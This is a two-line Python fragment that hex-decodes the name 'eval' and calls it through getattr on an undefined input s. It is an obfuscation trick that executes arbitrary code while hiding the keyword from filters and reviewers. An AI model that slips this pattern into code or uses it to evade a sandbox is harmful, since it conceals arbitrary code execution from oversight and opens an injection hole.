import builtins, binascii

getattr(builtins, binascii.unhexlify(b"6576616c").decode())(s)
